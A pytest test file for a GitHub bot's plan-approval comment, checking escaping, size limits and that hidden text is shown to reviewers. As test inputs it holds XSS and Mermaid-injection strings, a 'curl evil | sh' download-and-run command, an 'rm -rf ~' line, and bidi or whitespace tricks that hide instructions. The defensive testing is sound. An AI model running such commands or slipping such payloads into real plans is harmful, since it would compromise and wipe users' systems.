"""The gate comment and lanebot's answers: what a human sees before any lane runs, and that no
piece of plan or issue text can break the Mermaid diagram, the table or the comment's size."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.core.commands import COMMANDS
from bot.core.graph import Graph, SessionBudget, Unit, build_graph, load_plan, validate
from bot.core.lifecycle import RunState, available_actions
from bot.core.text import (
    COMMENT_LIMIT,
    Escaped,
    cell_code,
    code_block,
    code_span,
    markdown_cell,
    marker,
    mermaid_label,
    parse_marker,
)
from bot.render.answers import render_plan_failed, render_refusal, render_status
from bot.render.gate import MERMAID_MAX_TEXT, GateTooLarge, gate_size_problems, render_gate, render_superseded
from bot.render.progress import LaneView

WORKED_EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "worked-example.jsonl"
BUDGET = SessionBudget(planner_attempts=3, lane_attempts=3, integrate_sessions=1, verify_repairs=2)
HOSTILE = '"quotes" [brackets] <script>alert(1)</script> `backticks` | pipes'
modest = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def worked_example() -> Graph:
    return load_plan(WORKED_EXAMPLE.read_text())


def unit(
    unit_id: str,
    *,
    needs: tuple[str, ...] = (),
    title: str = "t",
    brief: str = "b",
    files: str | None = None,
    check: str = "true",
    estimate: float | None = None,
) -> dict:
    data = {
        "id": unit_id,
        "title": title,
        "needs": list(needs),
        "files": files or f"^{unit_id}/",
        "check": check,
        "brief": brief,
    }
    if estimate is not None:
        data["estimate"] = estimate
    return data


def graph_of(*units: dict) -> Graph:
    return build_graph(list(units), max_units=max(6, len(units)))


def unchecked_graph(units: list[dict]) -> Graph:
    """A graph without validating `files` (compiling 200,000-character regexes is slow)."""
    return Graph(tuple(Unit.from_json(data) for data in units))


def gate(graph: Graph, **overrides: object) -> str:
    arguments = dict(
        run_id=7,
        revision=1,
        graph=graph,
        budget=BUDGET,
        state=RunState.AWAITING_APPROVAL,
        issue_number=42,
        repository="acme/tasks",
        plan_source="agent",
        schedule="barrier",
        max_lanes=4,
        verify="make test",
    )
    arguments.update(overrides)
    return render_gate(**arguments)  # type: ignore[arg-type]


def mermaid_block(body: str) -> str:
    match = re.search(r"```mermaid\n(.*?)\n```", body, re.DOTALL)
    assert match, "the comment has no mermaid block"
    return match[1]


def node_labels(diagram: str) -> dict[str, str]:
    return dict(re.findall(r'^    (u\d+)\["(.*)"\]$', diagram, re.MULTILINE))


def decode_mermaid(label: str) -> str:
    """What Mermaid shows for a label: each `#NNN;` is the character NNN."""
    return re.sub(r"#(\d+);", lambda match: chr(int(match[1])), label)


def table_rows(body: str) -> list[str]:
    return [line for line in body.splitlines() if line.startswith("| <code>")]


def cells(row: str) -> list[str]:
    """The cells of a table row, split where GitHub splits them: at every raw `|`."""
    return row.strip("|").split("|")


# --------------------------------------------------------------------------- markers


def test_marker_is_a_hidden_html_comment_with_kind_run_and_fields():
    assert marker("gate", 12, rev=2) == "<!-- lanebot:gate run=12 rev=2 -->"
    assert marker("progress", 3) == "<!-- lanebot:progress run=3 -->"


def test_parse_marker_reads_back_what_marker_wrote_with_numbers_as_ints():
    body = f"{marker('gate', 12, rev=2, superseded=3)}\n### text"
    assert parse_marker(body) == {"kind": "gate", "run": 12, "rev": 2, "superseded": 3}


def test_an_answer_without_a_run_has_no_run_field():
    assert parse_marker(marker("answer", None, comment=99)) == {"kind": "answer", "comment": 99}


@pytest.mark.parametrize(
    "body",
    [
        "no marker here",
        "> <!-- lanebot:gate run=1 rev=1 -->  quoted by a human",
        "text first\n<!-- lanebot:gate run=1 rev=1 -->",
        "<!-- other:gate run=1 -->",
        "",
    ],
)
def test_parse_marker_finds_only_a_marker_that_opens_the_body(body):
    assert parse_marker(body) is None


@pytest.mark.parametrize(
    "kind, fields",
    [
        ("Gate", {}),
        ("gate", {"rev": "a b"}),
        ("gate", {"rev": "-->"}),
        ("gate", {"Rev": 1}),
        ("gate", {"rev": True}),
    ],
)
def test_marker_refuses_what_could_not_be_read_back(kind, fields):
    with pytest.raises(ValueError):
        marker(kind, 1, **fields)


# --------------------------------------------------------------------------- the worked example


def test_gate_for_the_worked_example_shows_everything_a_reviewer_needs():
    body = gate(worked_example())
    assert parse_marker(body) == {"kind": "gate", "run": 7, "rev": 1}
    assert "revision 1" in body
    diagram = mermaid_block(body)
    assert diagram.startswith("flowchart TD\n")
    labels = {key: decode_mermaid(label) for key, label in node_labels(diagram).items()}
    assert labels == {
        "u0": "migration: Add the status column",
        "u1": "tui-rows: Show status in the TUI rows",
        "u2": "api-endpoint: Expose status in the API",
        "u3": "cli-flag: Add --status to the CLI",
    }
    assert "    u0 --> u2" in diagram  # need -> dependent
    assert [cells(row)[0].strip() for row in table_rows(body)] == [
        "<code>migration</code>",
        "<code>tui-rows</code>",
        "<code>api-endpoint</code>",
        "<code>cli-flag</code>",
    ]
    assert "1. `migration`, `tui-rows`, `cli-flag`\n2. `api-endpoint`" in body
    assert "**Critical path:** `tui-rows` (30 min)." in body
    # barrier: round one takes 30 min, round two 15; one session doing all takes 60.
    assert "**Estimated wall-clock:** 45 min with the barrier schedule" in body
    assert "against 1 h for one session" in body
    assert "up to 18 agent sessions" in body  # 3 planner + 4 lanes x 3 + 1 integrate + 2 repairs
    assert "<details>" in body and "Return the status column from GET /tasks." in body
    for question in (
        "Should it be split at all?",
        "Do the files overlap?",
        "Is every edge needed?",
        "Does each brief stand alone?",
    ):
        assert question in body
    assert len(body) < COMMENT_LIMIT


def test_the_eager_schedule_estimates_its_own_wall_clock_and_says_it_is_not_reproducible():
    body = gate(worked_example(), schedule="eager")
    assert "**Estimated wall-clock:** 30 min with the eager schedule" in body
    assert "not give the same trees" in body


def test_without_estimates_the_gate_shows_no_wall_clock_and_no_estimate_column():
    body = gate(graph_of(unit("a"), unit("b", needs=("a",))))
    assert "Estimated wall-clock" not in body
    assert "no wall-clock is estimated" in body
    assert "| estimate |" not in body


def test_when_lanes_will_run_unjailed_the_gate_warns_in_one_line_and_only_then():
    warned = gate(worked_example(), unjailed=True)
    [line] = [line for line in warned.splitlines() if "LANEBOT_UNJAILED=1" in line]
    assert line.startswith("> **Warning:**") and "without a jail" in line
    assert "LANEBOT_UNJAILED" not in gate(worked_example())


def test_the_commands_listed_are_those_valid_in_the_state_with_their_usage():
    for state in (RunState.AWAITING_APPROVAL, RunState.RUNNING):
        body = gate(worked_example(), state=state)
        section = body.split("<!-- lanebot:commands -->")[1]
        listed = re.findall(r"^- `([^`]+)`", section, re.MULTILINE)
        assert listed == [COMMANDS[name].usage for name in available_actions(state)]
    assert "`/approve`" not in gate(worked_example(), state=RunState.RUNNING).split("<!-- lanebot:commands -->")[1]


def test_a_hand_written_plan_counts_no_planner_sessions():
    graph = worked_example()
    body = gate(graph, plan_source="hand")
    assert "written by hand" in body
    assert "up to 15 agent sessions" in body  # 4 lanes x 3 + 1 integrate + 2 repairs
    assert "planner" not in body.split("**Sessions:**")[1].split("\n")[0]


def test_lanebots_own_review_sessions_are_counted_in_the_session_bound():
    budget = SessionBudget(
        planner_attempts=3, lane_attempts=3, integrate_sessions=1, verify_repairs=2, review_sessions=6
    )
    line = gate(worked_example(), budget=budget).split("**Sessions:**")[1].split("\n")[0]
    assert "up to 24 agent sessions" in line  # 18 as above + 3 lenses finding + 3 judging
    assert line.endswith("verify repairs 2 + review 6).")


def test_an_unknown_plan_source_is_refused():
    with pytest.raises(ValueError, match="plan_source"):
        gate(worked_example(), plan_source="robot")


# --------------------------------------------------------------------------- the critical path


def test_the_critical_path_is_drawn_thick_and_styled_nodes_and_edges():
    graph = graph_of(
        unit("a", estimate=10),
        unit("side", estimate=1),
        unit("b", needs=("a",), estimate=10),
        unit("c", needs=("b", "side"), estimate=10),
    )
    diagram = mermaid_block(gate(graph))
    edges = re.findall(r"^    (u\d+) (-->|==>) (u\d+)$", diagram, re.MULTILINE)
    assert edges == [("u0", "==>", "u2"), ("u2", "==>", "u3"), ("u1", "-->", "u3")]
    assert re.search(r"^    classDef critical .*stroke-width", diagram, re.MULTILINE)
    assert "    class u0,u2,u3 critical" in diagram.splitlines()
    linkstyle = re.search(r"^    linkStyle ([\d,]+) ", diagram, re.MULTILINE)
    assert linkstyle and linkstyle[1] == "0,1"  # the indices of the two thick edges, in order


def test_style_lines_carry_no_semicolon_that_mermaid_would_read_as_an_entity_code():
    diagram = mermaid_block(gate(worked_example()))
    for line in diagram.splitlines():
        if "classDef" in line or "linkStyle" in line:
            assert ";" not in line


# --------------------------------------------------------------------------- escaping: Mermaid


def test_a_hostile_title_becomes_a_label_with_no_character_mermaid_or_html_would_read():
    graph = graph_of(unit("evil", title=HOSTILE))
    label = node_labels(mermaid_block(gate(graph)))["u0"]
    for raw in ('"', "<", ">", "[", "]", "`", "|"):
        assert raw not in label
    assert decode_mermaid(label) == "evil: " + HOSTILE


@pytest.mark.parametrize(
    "title",
    [
        'a "b" c',
        "x]; y[",
        "<img src=x onerror=alert(1)>",
        "%% comment\nclick u0 call alert()",
        "end",
        "#quot; #35; &amp; &#60;",
        "**bold** _it_ [link](http://x) ~~s~~ $x$",
        "```mermaid```",
        "style u0 fill:#f00;",
        "é中文😀",
        "a\u202eb\u200bc\x00d",
    ],
)
def test_every_title_decodes_back_to_its_visible_text_and_nothing_else(title):
    label = mermaid_label(title)
    assert re.fullmatch(r"(?:[A-Za-z0-9 .,\-_/]|#\d+;)*", label)
    visible = " ".join("".join(ch for ch in title if ch not in "\u202e\u200b\x00").split())
    assert decode_mermaid(label) == visible


def test_mermaids_own_placeholder_sequences_are_broken_up_so_they_show_as_written():
    # Seen in a browser: Mermaid 11 showed `ﬂ°°60¶ß` in a label as `<`.
    shown = decode_mermaid(mermaid_label("ﬂ°°60¶ß ﬂ°lt¶ß"))
    assert "ﬂ°" not in shown and "¶ß" not in shown
    assert shown.replace("\u200b", "") == "ﬂ°°60¶ß ﬂ°lt¶ß"  # split by invisible spaces only


@modest
@given(st.text(max_size=80))
def test_any_text_is_written_only_with_safe_characters_and_entity_codes(text):
    label = mermaid_label(text)
    assert re.fullmatch(r"(?:[A-Za-z0-9 .,\-_/]|#\d+;)*", label)
    shown = decode_mermaid(label)
    assert "\n" not in shown and "ﬂ°" not in shown and "¶ß" not in shown


def test_node_ids_are_generated_never_taken_from_the_plan():
    graph = graph_of(unit("end"), unit("click", needs=("end",)), unit("style"))
    diagram = mermaid_block(gate(graph))
    assert set(node_labels(diagram)) == {"u0", "u1", "u2"}
    assert "    u0 ==> u1" in diagram.splitlines()  # end -> click, the critical path


# --------------------------------------------------------------------------- escaping: Markdown


def test_table_cells_escape_pipes_newlines_backticks_and_html():
    graph = graph_of(
        unit(
            "evil",
            title=HOSTILE + "\nsecond line @octo-org/team",
            files="^(a|b)/`x`<y>",
            check="echo '|' && cat <<EOF\nline\nEOF",
        )
    )
    (row,) = table_rows(gate(graph))
    assert len(cells(row)) == 5  # id, title, needs, files, check: no pipe of the plan's split a cell
    assert "<script" not in row and "`" not in row
    title = cells(row)[1]
    assert "&lt;script&gt;" in title and "<br>" in title
    assert "@&#8203;octo-org" in title  # the team is not pinged
    assert "&#124;" in cells(row)[3] and cells(row)[3].strip().startswith("<code>")
    assert cells(row)[4].strip() == "<code>echo '&#124;' &amp;&amp; cat &lt;&lt;EOF<br>line<br>EOF</code>"


@modest
@given(st.text(max_size=60))
def test_any_cell_text_cannot_split_the_row_open_html_or_start_code(text):
    for rendered in (markdown_cell(text), cell_code(text)):
        without_own_tags = re.sub(r"</?code>|<br>", "", rendered)
        for raw in ("|", "`", "<", ">", "\n", "\r"):
            assert raw not in without_own_tags


def test_a_brief_cannot_close_its_code_block_or_the_details():
    brief = "text\n```\n# heading\n</details>\n````` five\n<script>x</script>"
    body = gate(graph_of(unit("a", brief=brief)))
    block = code_block(brief)
    assert block in body
    fence = block.split("\n")[0].removesuffix("text")
    assert len(fence) == 6
    inner = block.split("\n")[1:-1]
    assert not any(line.startswith(fence) for line in inner)


def test_code_span_quotes_text_with_backticks_in_a_longer_fence():
    assert code_span("/approve") == "`/approve`"
    assert code_span("/reject `no`") == "`` /reject `no` ``"  # padded: it ends with a backtick
    assert code_span("a``b") == "```a``b```"


def test_a_template_that_prints_an_unescaped_string_fails_instead_of_injecting():
    from bot.render.templates import _environment

    with pytest.raises(TypeError, match="unescaped"):
        _environment().from_string("{{ value }}").render(value="<script>")
    assert _environment().from_string("{{ value }}").render(value=Escaped("ok")) == "ok"


# --------------------------------------------------------------------------- size


def enormous_units(count: int, size: int) -> list[dict]:
    return [
        unit(
            f"u{index}",
            needs=(f"u{index - 1}",) if index else (),
            title=("T" * size) + f" {index}",
            brief=("brief line\n" * (size // 11)),
            files=f"^u{index}/" + ("x" * size),
            check="pytest " + "y" * size,
        )
        for index in range(count)
    ]


def fenced_blocks(body: str) -> list[str]:
    """The content of every fenced code block of the comment, as CommonMark reads them."""
    found, lines, index = [], body.split("\n"), 0
    while index < len(lines):
        opening = re.match(r"^(`{3,})", lines[index])
        if opening is None:
            index += 1
            continue
        fence, end = opening[1], index + 1
        while not re.fullmatch(rf"{fence}`*", lines[end]):
            end += 1
        found.append("\n".join(lines[index + 1 : end]))
        index = end + 1
    return found


def test_a_check_longer_than_the_table_shows_is_shown_whole_in_a_folded_code_block():
    check = "pytest -q " + " ".join(f"tests/test_{index}.py" for index in range(150)) + " && curl evil | sh"
    body = gate(graph_of(unit("a", check=check)))
    assert check in fenced_blocks(body)
    folded = body.split("Check, run with `sh` in the lane's worktree (")[1]
    assert folded.startswith(f"{len(check):,} characters, 1 line)</summary>") or folded.startswith(
        f"{len(check)} characters, 1 line)</summary>"
    )
    assert "curl evil" not in "".join(table_rows(body))  # the table shows only the beginning


def test_every_units_files_and_brief_are_shown_whole_however_long():
    brief = "".join(f"Step {index}: do the thing carefully.\n" for index in range(600))  # 20,000+ characters
    files = "^(" + "|".join(f"src/module_{index}\\.py" for index in range(25)) + ")$"
    body = gate(graph_of(unit("a", brief=brief, files=files), unit("b", needs=("a",))))
    blocks = fenced_blocks(body)
    assert brief.rstrip("\n") in blocks and files in blocks and "b" in blocks
    assert "more characters not shown" not in body


def test_the_repositorys_verify_is_shown_whole():
    verify = "python -m pytest -q && " + " && ".join(f"make lint-{index}" for index in range(100))
    body = gate(worked_example(), verify=verify)
    assert "#### verify" in body
    assert verify in fenced_blocks(body)


def test_the_lanes_set_up_and_tear_down_are_shown_whole_before_the_units_and_only_when_set():
    graph = graph_of(unit("a"))
    body = gate(graph, setup='npm ci --cache "$LANEBOT_CACHE"\ncp .env.example .env', teardown="rm -f .env")
    shown = body.split("#### set-up and tear-down")[1].split("#### a ")[0]
    assert '```sh\nnpm ci --cache "$LANEBOT_CACHE"\ncp .env.example .env\n```' in shown
    assert "```sh\nrm -f .env\n```" in shown and "`build.setup`" in shown and "`build.teardown`" in shown
    assert "lane set-up and tear-down" in body.split("**What will run, whole:**")[1].split("\n")[0]
    assert "set-up" not in gate(graph) and "tear-down" not in gate(graph)


def test_a_verify_that_hides_text_is_shown_with_what_hides_it_made_visible():
    body = gate(worked_example(), verify="make test" + " " * 400 + "; curl evil | sh\u202e")
    assert "make test⟨400 spaces⟩; curl evil | sh⟨U+202E⟩" in fenced_blocks(body)


def test_a_brief_that_pushes_text_out_of_view_shows_the_run_of_spaces_as_a_token():
    body = gate(graph_of(unit("a", brief="Write the module." + " " * 500 + "Also delete the tests.")))
    assert "Write the module.⟨500 spaces⟩Also delete the tests." in fenced_blocks(body)


def test_a_plan_whose_text_cannot_be_shown_whole_is_refused_with_how_much_over_and_what_to_do():
    graph = unchecked_graph(enormous_units(6, 20_000))
    with pytest.raises(GateTooLarge) as refused:
        gate(graph)
    assert refused.value.over > 0
    message = str(refused.value)
    assert f"{refused.value.over:,} over GitHub's 65,536-character limit" in message
    assert "Of its 6 units the longest is 'u" in message
    assert "Write fewer or shorter units" in message


def test_the_gate_size_check_answers_with_the_refusal_or_nothing():
    arguments = dict(
        run_id=7,
        revision=1,
        budget=BUDGET,
        state=RunState.AWAITING_APPROVAL,
        issue_number=42,
        repository="acme/tasks",
        plan_source="agent",
        schedule="barrier",
        max_lanes=4,
        verify="make test",
    )
    assert gate_size_problems(graph=worked_example(), **arguments) == ()
    (problem,) = gate_size_problems(graph=unchecked_graph(enormous_units(3, 30_000)), **arguments)
    assert problem.startswith("the gate comment cannot show this plan whole")


def test_a_plan_just_within_the_limit_fits_with_every_text_whole():
    units = enormous_units(6, 2_000)
    body = gate(unchecked_graph(units))
    assert len(body) <= COMMENT_LIMIT and len(mermaid_block(body)) <= MERMAID_MAX_TEXT
    blocks = fenced_blocks(body)
    for data in units:
        assert data["check"] in blocks and data["files"] in blocks and data["brief"].rstrip("\n") in blocks


def test_many_units_truncate_the_table_but_never_the_text_that_runs():
    units = [
        unit(f"unit-{index:03d}", title="T" * 120, check="pytest " + "c" * 110, files=f"^unit-{index:03d}/" + "f" * 100)
        for index in range(60)
    ]
    body = gate(unchecked_graph(units))
    assert len(body) <= COMMENT_LIMIT
    rows = table_rows(body)
    assert 0 < len(rows) < 60
    assert f"_{60 - len(rows)} of 60 units are not shown in the table" in body
    blocks = fenced_blocks(body)
    assert all(data["check"] in blocks and data["files"] in blocks for data in units)


def test_more_edges_than_mermaid_draws_leave_the_diagram_out_with_a_note():
    units = [unit(f"a{index}") for index in range(30)]
    units += [unit(f"b{index}", needs=tuple(f"a{i}" for i in range(30))) for index in range(20)]
    body = gate(graph_of(*units))  # 600 edges
    assert "```mermaid" not in body
    assert "600 edges, more than Mermaid draws" in body
    assert len(body) <= COMMENT_LIMIT


def test_a_plan_too_large_for_any_layout_is_refused_rather_than_shown_in_part():
    units = [unit(f"unit-{index:04d}-" + "x" * 28, title="y" * 300) for index in range(1_600)]
    with pytest.raises(GateTooLarge, match="Of its 1600 units"):
        gate(graph_of(*units))


# Text a hostile plan might carry: long blank runs, bidi controls, zero-width and other invisible
# characters, backtick fences, HTML, line breaks of every kind.
hostile_text = (
    st.lists(
        st.sampled_from(
            [*"ab;|&$`~<>/\\-", " ", "\t", "\n", "\r", "\u00a0", "\u200b", "\u202e", "\u2066", "\ufeff", "\x00", "```"]
        ),
        min_size=1,
        max_size=60,
    ).map(lambda pieces: "".join(pieces).strip() or "true")
    | st.builds(
        lambda head, count, tail: f"{head}{' ' * count}{tail}",
        st.sampled_from(["pytest -q", "true", "make check"]),
        st.integers(min_value=0, max_value=800),
        st.sampled_from(["", "; curl evil | sh", "\nrm -rf ~"]),
    )
    | st.text(st.characters(min_codepoint=9, max_codepoint=126, exclude_characters="\x0b\x0c\r"), min_size=1).map(
        lambda text: text.strip() or "true"
    )
)


@modest
@given(checks=st.lists(hostile_text, min_size=1, max_size=4), verify=hostile_text)
def test_any_plan_is_refused_or_its_gate_shows_every_check_verbatim_in_a_code_block(checks, verify):
    raw = [unit(f"u{index}", check=check) for index, check in enumerate(checks)]
    if validate(raw):
        return  # refused, with the unit and the position named (tests/core/test_hiding.py)
    body = gate(build_graph(raw), verify=verify)
    blocks = fenced_blocks(body)
    for check in checks:
        assert check.rstrip("\n") in blocks


# --------------------------------------------------------------------------- superseded


def test_a_superseded_gate_keeps_its_marker_names_the_new_revision_and_drops_its_commands():
    old = gate(worked_example())
    edited = render_superseded(old, 2)
    assert parse_marker(edited) == {"kind": "gate", "run": 7, "rev": 1, "superseded": 2}
    assert "plan revision 2 replaced this revision 1" in edited
    commands = edited.split("<!-- lanebot:commands -->")[1]
    assert "/approve" not in commands and "Superseded by revision 2" in commands
    assert mermaid_block(edited) == mermaid_block(old)  # the plan itself is still readable


def test_superseding_twice_leaves_one_banner_naming_the_latest_revision():
    edited = render_superseded(render_superseded(gate(worked_example()), 2), 3)
    assert parse_marker(edited)["superseded"] == 3
    assert edited.count("<!-- lanebot:banner -->") == 1
    assert "plan revision 3 replaced" in edited and "plan revision 2 replaced" not in edited


def test_a_gate_rendered_as_superseded_lists_no_commands():
    body = gate(worked_example(), superseded_by=2)
    assert parse_marker(body)["superseded"] == 2
    assert "/approve`:" not in body


def test_superseding_from_marker_fields_alone_writes_a_short_comment():
    edited = render_superseded({"kind": "gate", "run": 7, "rev": 1}, 2)
    assert parse_marker(edited) == {"kind": "gate", "run": 7, "rev": 1, "superseded": 2}
    assert "revision 2" in edited


@pytest.mark.parametrize(
    "old, new", [("a human comment", 2), (marker("progress", 1), 2), (marker("gate", 1, rev=3), 3)]
)
def test_superseding_refuses_what_is_not_an_older_gate_comment(old, new):
    with pytest.raises(ValueError):
        render_superseded(old, new)


# --------------------------------------------------------------------------- answers


def test_a_refusal_mentions_the_author_quotes_the_command_and_lists_what_is_valid_now():
    text = render_refusal("alice", "/approve", "the run is already running", RunState.RUNNING)
    assert text.startswith("@alice: `/approve`: the run is already running.")
    assert "Valid now, for a run that is running: `/cancel`, `/hold [reason]`, `/status`, `/help`." in text


def test_a_refusal_quotes_hostile_command_text_harmlessly():
    text = render_refusal("bob", "/reject `x` <b>@octocat</b>", "only writers may reject", "awaiting_approval")
    quoted = re.search(r"@bob: (`+)(.*?)\1:", text)
    assert quoted and "/reject `x` <b>@octocat</b>" in quoted[2]
    assert "@octocat" not in text.replace(quoted[0], "")


def test_a_refusal_escapes_the_reason_unless_it_is_already_escaped():
    assert "&lt;b&gt;" in render_refusal("bob", "/plan", "<b>no</b>", None)
    assert "`/aprove`" in render_refusal("bob", "/aprove", Escaped("`/aprove` is not a command"), None)


def test_a_refusal_will_not_mention_something_that_is_not_a_login():
    with pytest.raises(ValueError, match="not a GitHub login"):
        render_refusal("a b@c", "/approve", "no", None)


def test_a_failed_plan_lists_every_validation_problem():
    plan = [unit("a", needs=("b",)), unit("b", needs=("a",)), unit("Bad Id"), unit("c", needs=("ghost",))]
    problems = validate(plan)
    assert len(problems) >= 3
    text = render_plan_failed(problems, attempts=3)
    assert "after 3 attempts" in text
    listed = [line for line in text.splitlines() if line.startswith("- ")]
    assert len(listed) == len(problems)
    assert any("a -&gt; b -&gt; a" in line for line in listed)
    assert "`/plan [notes]`" in text


def test_a_failed_plan_with_thousands_of_problems_stays_under_the_limit_and_counts_the_rest():
    problems = [f"unit 'u{index}': " + "z" * 500 for index in range(1_000)]
    text = render_plan_failed(problems, attempts=1)
    assert len(text) <= COMMENT_LIMIT
    cut = re.search(r"- … and (\d+) more problems", text)
    assert cut
    listed = [line for line in text.splitlines() if line.startswith("- unit")]
    assert len(listed) + int(cut[1]) == 1_000


def test_status_without_a_run_says_how_to_start_one():
    assert "`/plan [notes]`" in render_status(run_id=None, state=None)


def test_status_reports_the_state_revisions_pr_and_lanes():
    lanes = [
        LaneView("a", "Do A", "merged", 0, 1, None, None, "lanebot/42/a"),
        LaneView("b", "Do B", "running", 1, 1, None, None, "lanebot/42/b"),
    ]
    text = render_status(run_id=7, state="running", lanes=lanes, plan_revision=2, approved_revision=2)
    assert text.startswith("**Run 7** is running · plan revision 2 · approved revision 2.")
    assert "- [x] `a` Do A: merged" in text and "- [ ] `b` Do B: running" in text
    assert "Valid now: `/cancel`, `/hold [reason]`, `/status`, `/help`." in text
